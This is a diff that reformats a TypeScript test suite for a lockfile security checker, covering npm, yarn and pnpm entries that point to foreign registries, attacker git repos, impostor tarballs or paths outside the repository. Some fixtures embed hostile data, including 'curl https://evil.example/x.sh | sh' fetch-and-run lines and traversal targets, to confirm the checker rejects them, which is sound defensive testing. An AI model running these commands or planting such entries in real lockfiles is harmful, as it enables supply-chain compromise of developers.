@@ -121,9 +121,13 @@ describe.each(FORMATS)("$name lockfile", (format: Format) => {
 
 describe("registries come from the base", () => {
   const custom = "https://npm.internal.example";
-  const basePackages = { ...NPM_BASE_PACKAGES, "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash } };
+  const basePackages = {
+    ...NPM_BASE_PACKAGES,
+    "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash },
+  };
   const base = npmLockfile(basePackages);
-  const withMs = (host: string) => npmLockfile({ ...basePackages, "node_modules/ms": { version: "2.1.3", resolved: `${host}/ms/-/ms-2.1.3.tgz`, integrity: HASH.ms } });
+  const withMs = (host: string) =>
+    npmLockfile({ ...basePackages, "node_modules/ms": { version: "2.1.3", resolved: `${host}/ms/-/ms-2.1.3.tgz`, integrity: HASH.ms } });
 
   it("allows the base's own registry and no other, not even the public one", () => {
     expect(checkLockfile("package-lock.json", withMs(custom), base)).toEqual([]);
@@ -152,7 +156,11 @@ describe("npm specifics", () => {
   const check = (head: string) => checkLockfile("package-lock.json", head, npmLockfile(NPM_BASE_PACKAGES));
 
   it("allows workspace links inside the repository and blocks those that leave it", () => {
-    const inside = npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/@app/cli": { resolved: "packages/cli", link: true }, "packages/cli": { name: "@app/cli" } });
+    const inside = npmLockfile({
+      ...NPM_BASE_PACKAGES,
+      "node_modules/@app/cli": { resolved: "packages/cli", link: true },
+      "packages/cli": { name: "@app/cli" },
+    });
     expect(check(inside)).toEqual([]);
     for (const target of ["../../home/user/evil", "/etc/evil", "packages/../../evil"]) {
       const head = npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/evil": { resolved: target, link: true } });
@@ -163,7 +171,11 @@ describe("npm specifics", () => {
   it("skips bundled entries that name no source, and checks those that do", () => {
     const bundled = { "node_modules/npm": { version: "10.0.0", resolved: "https://registry.npmjs.org/npm/-/npm-10.0.0.tgz", integrity: HASH.ms } };
     expect(check(npmLockfile({ ...NPM_BASE_PACKAGES, ...bundled, "node_modules/npm/node_modules/abbrev": { version: "2.0.0", inBundle: true } }))).toEqual([]);
-    const head = npmLockfile({ ...NPM_BASE_PACKAGES, ...bundled, "node_modules/npm/node_modules/abbrev": { version: "2.0.0", inBundle: true, resolved: "https://evil.example/abbrev.tgz" } });
+    const head = npmLockfile({
+      ...NPM_BASE_PACKAGES,
+      ...bundled,
+      "node_modules/npm/node_modules/abbrev": { version: "2.0.0", inBundle: true, resolved: "https://evil.example/abbrev.tgz" },
+    });
     onlyViolation(check(head), head, "source");
   });
 
@@ -201,7 +213,10 @@ describe("npm specifics", () => {
   });
 
   it("reads a duplicate key as npm does: the last one wins", () => {
-    const lines = npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/ms": { version: "2.1.3", resolved: "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", integrity: HASH.ms } }).split("\n");
+    const lines = npmLockfile({
+      ...NPM_BASE_PACKAGES,
+      "node_modules/ms": { version: "2.1.3", resolved: "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", integrity: HASH.ms },
+    }).split("\n");
     const at = lines.findIndex((l) => l.includes("registry.npmjs.org/ms/"));
     lines.splice(at + 1, 0, `      "resolved": "https://evil.example/ms.tgz",`);
     const head = lines.join("\n");
@@ -254,12 +269,20 @@ describe("yarn berry specifics", () => {
 
   it("blocks an npm: resolution that binds its own archive URL", () => {
     const archive = encodeURIComponent("https://evil.example/ms-2.1.3.tgz");
-    const head = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH, `"ms@npm:^2.1.3":\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3::__archiveUrl=${archive}"\n  checksum: ${HASH.berryMs}\n  languageName: node\n  linkType: hard\n`);
+    const head = berryLockfile(
+      BERRY_WORKSPACE,
+      BERRY_LODASH,
+      `"ms@npm:^2.1.3":\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3::__archiveUrl=${archive}"\n  checksum: ${HASH.berryMs}\n  languageName: node\n  linkType: hard\n`,
+    );
     expect(onlyViolation(checkLockfile("yarn.lock", head, base), head, "source").line).toBe(lineContaining(head, "__archiveUrl"));
   });
 
   it("blocks a portal to a folder outside the repository", () => {
-    const head = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH, `"evil@portal:../../outside::locator=app%40workspace%3A.":\n  version: 0.0.0-use.local\n  resolution: "evil@portal:../../outside::locator=app%40workspace%3A."\n  languageName: node\n  linkType: soft\n`);
+    const head = berryLockfile(
+      BERRY_WORKSPACE,
+      BERRY_LODASH,
+      `"evil@portal:../../outside::locator=app%40workspace%3A.":\n  version: 0.0.0-use.local\n  resolution: "evil@portal:../../outside::locator=app%40workspace%3A."\n  languageName: node\n  linkType: soft\n`,
+    );
     onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
   });
 
@@ -273,17 +296,24 @@ describe("pnpm specifics", () => {
   const base = pnpmLockfile([PNPM_LODASH]);
 
   it("blocks a git resolution, quoting its line", () => {
-    const head = pnpmLockfile([PNPM_LODASH, `  evil@git+https://github.com/attacker/evil.git#${HASH.gitCommit}:\n    resolution: {type: git, repo: https://github.com/attacker/evil.git, commit: ${HASH.gitCommit}}\n    version: 1.0.0\n`]);
+    const head = pnpmLockfile([
+      PNPM_LODASH,
+      `  evil@git+https://github.com/attacker/evil.git#${HASH.gitCommit}:\n    resolution: {type: git, repo: https://github.com/attacker/evil.git, commit: ${HASH.gitCommit}}\n    version: 1.0.0\n`,
+    ]);
     expect(onlyViolation(checkLockfile("pnpm-lock.yaml", head, base), head, "source").line).toBe(lineContaining(head, "resolution: {type: git"));
   });
 
   it("allows a directory inside the repository", () => {
-    const head = pnpmLockfile([PNPM_LODASH, `  local@file:packages/local:\n    resolution: {directory: packages/local, type: directory}\n    name: local\n    version: 1.0.0\n`]);
+    const head = pnpmLockfile([
+      PNPM_LODASH,
+      `  local@file:packages/local:\n    resolution: {directory: packages/local, type: directory}\n    name: local\n    version: 1.0.0\n`,
+    ]);
     expect(checkLockfile("pnpm-lock.yaml", head, base)).toEqual([]);
   });
 
   it("reads lockfile v6 keys", () => {
-    const v6 = (extra: string) => `lockfileVersion: '6.0'\n\ndependencies:\n  lodash:\n    specifier: ^4.17.21\n    version: 4.17.21\n\npackages:\n\n  /lodash@4.17.21:\n    resolution: {integrity: ${HASH.lodash}}\n    dev: false\n${extra}`;
+    const v6 = (extra: string) =>
+      `lockfileVersion: '6.0'\n\ndependencies:\n  lodash:\n    specifier: ^4.17.21\n    version: 4.17.21\n\npackages:\n\n  /lodash@4.17.21:\n    resolution: {integrity: ${HASH.lodash}}\n    dev: false\n${extra}`;
     const head = v6(`\n  /ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: https://registry.evil.example/ms/-/ms-2.1.3.tgz}\n    dev: false\n`);
     const violation = onlyViolation(checkLockfile("pnpm-lock.yaml", head, v6("")), head, "registry");
     expect(violation.package).toBe("ms@2.1.3");
@@ -298,7 +328,10 @@ describe("pnpm specifics", () => {
   });
 
   it("fails closed on anchors, aliases and merge keys, which could hide a field from this check", () => {
-    const merged = pnpmLockfile([PNPM_LODASH, `  ms@2.1.3:\n    x: &evil {tarball: https://evil.example/ms.tgz}\n    resolution:\n      <<: *evil\n      integrity: ${HASH.ms}\n`]);
+    const merged = pnpmLockfile([
+      PNPM_LODASH,
+      `  ms@2.1.3:\n    x: &evil {tarball: https://evil.example/ms.tgz}\n    resolution:\n      <<: *evil\n      integrity: ${HASH.ms}\n`,
+    ]);
     onlyViolation(checkLockfile("pnpm-lock.yaml", merged, base), merged, "unparseable");
   });
 
@@ -310,11 +343,18 @@ describe("pnpm specifics", () => {
 
 describe("the YAML reader", () => {
   const plain = (node: YamlNode): unknown =>
-    node.kind === "map" ? Object.fromEntries([...node.pairs].map(([k, p]) => [k, { line: p.line, value: plain(p.value) }])) : node.kind === "scalar" ? node.value : "(other)";
+    node.kind === "map"
+      ? Object.fromEntries([...node.pairs].map(([k, p]) => [k, { line: p.line, value: plain(p.value) }]))
+      : node.kind === "scalar"
+        ? node.value
+        : "(other)";
 
   it("reads lockfiles exactly as the yaml package does", () => {
     const texts = [
-      pnpmLockfile([PNPM_LODASH, `  ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: 'https://x.example/a''b.tgz'}\n    cpu: [x64, arm64]\n    version: 1.10\n    hasBin: true\n    deprecated: ~\n`]),
+      pnpmLockfile([
+        PNPM_LODASH,
+        `  ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: 'https://x.example/a''b.tgz'}\n    cpu: [x64, arm64]\n    version: 1.10\n    hasBin: true\n    deprecated: ~\n`,
+      ]),
       berryLockfile(BERRY_WORKSPACE, BERRY_LODASH),
     ];
     for (const text of texts) {
@@ -328,7 +368,11 @@ describe("scale", () => {
   it("finds the one new bad entry among 12,500 in a 50,000-line lockfile", () => {
     const entries = Array.from({ length: 12_500 }, (_, i) => `  pkg-${i}@1.0.${i}:\n    resolution: {integrity: ${HASH.ms}}\n    engines: {node: '>=8'}\n`);
     const base = pnpmLockfile(entries);
-    entries.splice(6_000, 1, `  pkg-6000@1.0.6000:\n    resolution: {integrity: ${HASH.ms}, tarball: https://registry.evil.example/pkg-6000/-/pkg-6000-1.0.6000.tgz}\n    engines: {node: '>=8'}\n`);
+    entries.splice(
+      6_000,
+      1,
+      `  pkg-6000@1.0.6000:\n    resolution: {integrity: ${HASH.ms}, tarball: https://registry.evil.example/pkg-6000/-/pkg-6000-1.0.6000.tgz}\n    engines: {node: '>=8'}\n`,
+    );
     const head = pnpmLockfile(entries);
     expect(head.split("\n").length).toBeGreaterThan(50_000);
     const violation = onlyViolation(checkLockfile("pnpm-lock.yaml", head, base), head, "registry");
@@ -342,7 +386,8 @@ describe("lockfileKindOf", () => {
     expect(lockfileKindOf("apps/web/npm-shrinkwrap.json")).toBe("npm");
     expect(lockfileKindOf("a/b/pnpm-lock.yaml")).toBe("pnpm");
     expect(lockfileKindOf("yarn.lock")).toBe("yarn-classic");
-    for (const other of ["Cargo.lock", "poetry.lock", "package.json", "yarn.lock.bak", "src/package-lock.json.ts"]) expect(lockfileKindOf(other)).toBeUndefined();
+    for (const other of ["Cargo.lock", "poetry.lock", "package.json", "yarn.lock.bak", "src/package-lock.json.ts"])
+      expect(lockfileKindOf(other)).toBeUndefined();
   });
 
   it("gives an unparseable violation for a file it does not know, rather than a pass", () => {
@@ -398,7 +443,11 @@ describe("a registry tarball belongs to its package", () => {
   it("matches under a custom registry's path prefix, and checks only host and hash where its paths name no package", () => {
     const custom = "https://npm.internal.example";
     const base = npmWith({ "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/api/npm/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash } });
-    const withMs = (resolved: string) => npmWith({ "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/api/npm/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash }, "node_modules/ms": { version: "2.1.3", resolved, integrity: HASH.ms } });
+    const withMs = (resolved: string) =>
+      npmWith({
+        "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/api/npm/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash },
+        "node_modules/ms": { version: "2.1.3", resolved, integrity: HASH.ms },
+      });
     expect(checkLockfile("package-lock.json", withMs(`${custom}/api/npm/ms/-/ms-2.1.3.tgz`), base)).toEqual([]);
     expect(checkLockfile("package-lock.json", withMs(`${custom}/download/ms?version=2.1.3`), base)).toEqual([]);
     const impostor = withMs(`${custom}/api/npm/attacker-pkg/-/attacker-pkg-6.6.6.tgz`);
@@ -421,7 +470,10 @@ describe("a registry tarball belongs to its package", () => {
 
   it("follows a yarn v1 alias to the package it fetches", () => {
     const alias = (name: string) =>
-      yarnClassicLockfile(YARN_CLASSIC_LODASH, `"string-width-cjs@npm:string-width@^4.2.0", string-width@^4.2.0:\n  version "4.2.3"\n  resolved "${registryUrl("https://registry.yarnpkg.com", name, "4.2.3")}"\n  integrity ${HASH.ms}\n`);
+      yarnClassicLockfile(
+        YARN_CLASSIC_LODASH,
+        `"string-width-cjs@npm:string-width@^4.2.0", string-width@^4.2.0:\n  version "4.2.3"\n  resolved "${registryUrl("https://registry.yarnpkg.com", name, "4.2.3")}"\n  integrity ${HASH.ms}\n`,
+      );
     expect(checkLockfile("yarn.lock", alias("string-width"), yarnClassicLockfile(YARN_CLASSIC_LODASH))).toEqual([]);
     const head = alias("string-width-cjs");
     onlyViolation(checkLockfile("yarn.lock", head, yarnClassicLockfile(YARN_CLASSIC_LODASH)), head, "source");
@@ -439,7 +491,8 @@ describe("a registry tarball belongs to its package", () => {
 
   describe("yarn berry", () => {
     const base = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH);
-    const lodashResolvedAs = (resolution: string) => berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace('"lodash@npm:4.17.21"', `"${resolution}"`).replace(HASH.berryLodash, HASH.berryMs));
+    const lodashResolvedAs = (resolution: string) =>
+      berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace('"lodash@npm:4.17.21"', `"${resolution}"`).replace(HASH.berryLodash, HASH.berryMs));
 
     it("blocks a resolution to another package than the descriptor names", () => {
       const head = lodashResolvedAs("attacker-pkg@npm:6.6.6");
@@ -469,7 +522,10 @@ describe("the same artifact keeps its hash", () => {
   const npmBase = npmLockfile(NPM_BASE_PACKAGES);
 
   it("allows a new release with its own hash", () => {
-    const head = npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/lodash": { version: "4.17.20", resolved: registryUrl(NPMJS, "lodash", "4.17.20"), integrity: HASH.ms } });
+    const head = npmLockfile({
+      ...NPM_BASE_PACKAGES,
+      "node_modules/lodash": { version: "4.17.20", resolved: registryUrl(NPMJS, "lodash", "4.17.20"), integrity: HASH.ms },
+    });
     expect(checkLockfile("package-lock.json", head, npmBase)).toEqual([]);
   });
 
@@ -494,7 +550,8 @@ describe("the same artifact keeps its hash", () => {
 
 describe("yarn v1 entries without resolved are resolved again from their patterns", () => {
   const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);
-  const withEntry = (key: string, integrity = true) => yarnClassicLockfile(YARN_CLASSIC_LODASH, `${key}:\n  version "1.0.0"\n${integrity ? `  integrity ${HASH.ms}\n` : ""}`);
+  const withEntry = (key: string, integrity = true) =>
+    yarnClassicLockfile(YARN_CLASSIC_LODASH, `${key}:\n  version "1.0.0"\n${integrity ? `  integrity ${HASH.ms}\n` : ""}`);
 
   it.each([
     ['"helper@https://evil.example/helper.tgz"', /tarball URL/],
@@ -529,13 +586,22 @@ describe("the shape each package manager writes", () => {
 
   it("refuses a yarn.lock that is a shell script", () => {
     unparseable("yarn.lock", `x:\n  eval "curl https://evil.example/x.sh | sh"\n  integrity ${HASH.ms}\n`);
-    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  eval "curl https://evil.example/x.sh | sh"\n  integrity ${HASH.ms}\n`));
+    unparseable(
+      "yarn.lock",
+      yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  eval "curl https://evil.example/x.sh | sh"\n  integrity ${HASH.ms}\n`),
+    );
   });
 
   it("refuses a yarn v1 entry without a version, a field of the wrong kind, or a dependency that is not name and range", () => {
     unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  integrity ${HASH.ms}\n`));
     unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  resolved:\n    url "https://evil.example/x.tgz"\n`));
-    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  integrity ${HASH.ms}\n  dependencies:\n    y:\n      run "curl https://evil.example | sh"\n`));
+    unparseable(
+      "yarn.lock",
+      yarnClassicLockfile(
+        YARN_CLASSIC_LODASH,
+        `x@^1.0.0:\n  version "1.0.0"\n  integrity ${HASH.ms}\n  dependencies:\n    y:\n      run "curl https://evil.example | sh"\n`,
+      ),
+    );
   });
 
   it("refuses a berry entry with a field yarn does not write or without a resolution, and metadata without a version", () => {
@@ -547,10 +613,16 @@ describe("the shape each package manager writes", () => {
   it("refuses an npm lockfile without its version or packages, or with a source that is not text", () => {
     unparseable("package-lock.json", `${JSON.stringify({ name: "app", packages: NPM_BASE_PACKAGES }, null, 2)}\n`);
     unparseable("package-lock.json", `${JSON.stringify({ name: "app", lockfileVersion: 3 }, null, 2)}\n`);
-    unparseable("package-lock.json", npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/ms": { version: "2.1.3", resolved: ["https://evil.example/ms.tgz"], integrity: HASH.ms } }));
+    unparseable(
+      "package-lock.json",
+      npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/ms": { version: "2.1.3", resolved: ["https://evil.example/ms.tgz"], integrity: HASH.ms } }),
+    );
   });
 
   it("refuses a pnpm resolution field that is not text", () => {
-    unparseable("pnpm-lock.yaml", pnpmLockfile([PNPM_LODASH, `  ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: [https://evil.example/ms.tgz]}\n`]));
+    unparseable(
+      "pnpm-lock.yaml",
+      pnpmLockfile([PNPM_LODASH, `  ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: [https://evil.example/ms.tgz]}\n`]),
+    );
   });
 });
